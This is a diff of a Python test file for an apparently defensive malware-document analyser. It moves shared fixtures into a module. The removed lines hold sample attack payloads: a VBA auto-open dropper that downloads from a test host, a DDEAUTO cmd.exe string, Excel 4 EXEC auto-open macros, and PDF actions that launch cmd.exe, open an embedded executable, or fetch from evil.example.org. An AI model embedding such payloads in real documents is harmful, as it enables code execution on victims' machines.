@@ -12,25 +12,15 @@ from samplebank.worker.analysers.documents.vba_source import unpacked
 from samplebank.worker.contract import NO_FINDINGS, Rejected, Result
 from worker import made_documents as made
 from worker.conftest import Extract
+from worker.documents import DDE, DROPPER, PDF_ACTIONS, WORKBOOKS, found, tags
 from worker.made_containers import zipped
 from worker.made_images import compound
 
-DROPPER = f'Sub AutoOpen()\r\nShell "cmd /c start x"\r\nURLDownloadToFile 0, "{made.HOST}/x"\r\nEnd Sub'
 CLEAN_MACRO = 'Sub Total()\r\nRange("A1").Value = 7\r\nEnd Sub'
-DDE = "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc.exe&quot;"
-SCRIPT = pikepdf.Name.JavaScript
-
-
-def found(result: Result) -> set[str]:
-    return {finding["name"] for finding in result.result["findings"]}
 
 
 def evidence(result: Result, name: str) -> str:
     return next(one.data.decode() for one in result.evidence if one.file_name == name)
-
-
-def tags(result: Result) -> set[str]:
-    return {tag.value for tag in result.tags}
 
 
 # -- macros
@@ -116,15 +106,6 @@ def test_the_example_of_the_specification_is_unpacked() -> None:
 
 
 # -- Excel 4
-
-
-WORKBOOKS = {
-    "xls": made.xls(made.call(made.EXEC, "calc.exe")),
-    "hidden xls": made.xls(made.call(made.EXEC, "calc.exe"), state=2),
-    "xlsm": made.xlsm('EXEC("calc.exe")'),
-    "xlsb": made.xlsb(made.call(made.EXEC, "calc.exe", is_wide=True)),
-    "slk": b'ID;P\nO;E\nNN;NAuto_Open;ER3C2\nC;Y3;X2;EEXEC("calc.exe")\nE\n',
-}
 
 
 @pytest.mark.parametrize("kind", WORKBOOKS)
@@ -281,18 +262,6 @@ async def test_a_template_of_rtf_is_found_in_disguise(documents: Extract) -> Non
 
 
 # -- PDF
-
-
-PDF_ACTIONS = [
-    ({"S": pikepdf.Name.Launch, "F": pikepdf.String("cmd.exe")}, {"pdf-launch"}),
-    ({"S": SCRIPT, "JS": pikepdf.String("app.alert(1)")}, {"pdf-script", "pdf-script-autostart"}),
-    (
-        {"S": SCRIPT, "JS": pikepdf.String("this.exportDataObject({cName: 'a.exe', nLaunch: 2})")},
-        {"pdf-script", "pdf-script-autostart", "pdf-opens-attachment"},
-    ),
-    ({"S": pikepdf.Name.GoToR, "F": pikepdf.String(r"\\evil.example.org\x")}, {"pdf-remote-file"}),
-    ({"S": pikepdf.Name.URI, "URI": pikepdf.String(made.HOST)}, {"pdf-address-autostart"}),
-]
 
 
 @pytest.mark.parametrize(("action", "findings"), PDF_ACTIONS)
